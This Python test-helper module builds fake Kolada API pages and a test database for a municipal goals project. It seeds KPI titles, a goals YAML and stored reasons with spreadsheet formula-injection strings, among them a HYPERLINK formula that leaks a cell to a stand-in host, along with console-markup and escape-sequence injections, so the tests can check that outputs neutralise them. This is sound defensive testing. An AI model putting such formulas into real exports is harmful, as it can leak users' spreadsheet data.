"""Small builders shared by tests."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import httpx
import orjson
import pyarrow as pa
import pytest

from kolada_goals.extract.client import ClientSettings, KoladaClient, Page
from kolada_goals.extract.records import decode_value_page

SAMPLES = Path(__file__).resolve().parents[1].parent / "shared" / "kolada-samples"


def require_samples() -> Path:
    if not SAMPLES.is_dir():
        pytest.skip(f"real Kolada samples not found at {SAMPLES} (they live beside the repo)")
    return SAMPLES


def record(
    kpi: str = "N15428",
    municipality: str = "2425",
    period: Any = 2022,
    values: Any = None,
) -> dict[str, Any]:
    return {
        "kpi": kpi,
        "municipality": municipality,
        "period": period,
        "values": values
        if values is not None
        else [{"gender": "T", "count": 1, "status": "", "value": 83.3, "isdeleted": False}],
    }


def body(records: list[Any], next_url: str | None = None) -> bytes:
    """An answer of Kolada's API, as sent."""
    return orjson.dumps({"count": len(records), "values": records, "next_url": next_url})


def page(
    records: list[Any],
    url: str = "http://kolada.test/v3/data/x?page=1",
    fetched_at: datetime = datetime(2026, 1, 1, tzinfo=UTC),
) -> Page[pa.Table]:
    """A decoded page of values, as the client hands it on."""
    decoded = decode_value_page(body(records), url)
    return Page(url, url, 1, decoded.values, decoded.record_count, fetched_at)


# Text that a spreadsheet would run as a formula or a console would read as markup.
HOSTILE_KPI_TITLES = {
    "N15428": '=HYPERLINK("http://x/?leak="&A1,"y")',
    "N00923": "[/] Medellivslängd [link=http://x]y[/link] [bold]",
}
HOSTILE_GOALS_YAML = """\
format: 1
kommun: "2425"
name: "Dorotea [bold]"
vision: "=1+1"
mandate: {first_year: 2023, last_year: 2026}
goals:
  - id: MO1
    title: "=1+1"
    owner: "https://x/?leak=1"
  - id: MO2
    title: "[link=http://x]y[/link] @SUM(A1:A9)"
    owner: "+1+1"
    indicators:
      - id: kpi-title-formula
        kpi: N15428
        direction: higher
      - id: kpi-title-markup
        kpi: N00923
        direction: higher
      - id: title-plus
        kpi: N07403
        title: "+1+1 [/]"
        direction: lower
      - id: title-tab
        kpi: N05401
        title: "\\t=1+1"
        direction: higher
      - id: title-return
        kpi: N31807
        title: "\\r=1+1"
        direction: lower
      - id: title-escape
        kpi: N01963
        title: "\\e[2Jclear screen"
        direction: higher
      - id: motivation-formula
        kpi: U07453
        title: "[bold]Företagsklimat"
        direction: higher
        motivation: "@SUM(A1:A9) [/] [link=http://x]y[/link]"
"""
# Reasons are written by the marts, never read from input; the outputs still print whatever a
# stored row holds, so the test database carries hostile reasons too.
HOSTILE_REASON = "-2+3 [/] [link=http://x]y[/link] "


def hostile_published_database(folder: Path) -> Path:
    """A published database under `folder` built from the real samples as a Kolada whose KPI
    titles are formulas and markup, with a goal file for Dorotea (2425) of the same kind."""
    import shutil

    from tests.sample_warehouse import sample_warehouse

    samples = require_samples()
    kolada = folder / "kolada"
    shutil.copytree(samples, kolada)
    kpi_path = kolada / "v3_metadata" / "kpi.v3.json"
    kpis = orjson.loads(kpi_path.read_bytes())
    for kpi in kpis:
        kpi["title"] = HOSTILE_KPI_TITLES.get(kpi["id"], kpi["title"])
    kpi_path.write_bytes(orjson.dumps(kpis))
    goals = folder / "goals"
    goals.mkdir()
    (goals / "2425-hostile.yaml").write_text(HOSTILE_GOALS_YAML, encoding="utf-8")
    con = sample_warehouse(kolada, goals)
    con.execute("update mart_goal_status set reason = ? || reason", [HOSTILE_REASON])
    con.execute("update mart_indicator_status_row set reason = ? || reason", [HOSTILE_REASON])
    path = folder / "kolada_goals.duckdb"
    assert "'" not in str(path)  # ATTACH takes its path only as SQL text
    con.execute(f"attach '{path}' as published")
    con.execute("copy from database memory to published")
    con.execute("detach published")
    con.close()
    return path


def fake_kolada_client(app: Any) -> KoladaClient:
    """The real client on a fake Kolada app in this process, with fast retries."""
    settings = ClientSettings(
        base_url="http://kolada.test/v3",
        requests_per_second=None,
        backoff_initial_seconds=0.01,
        backoff_max_seconds=0.02,
        max_attempts=2,
    )
    return KoladaClient(settings, transport=httpx.ASGITransport(app=app))
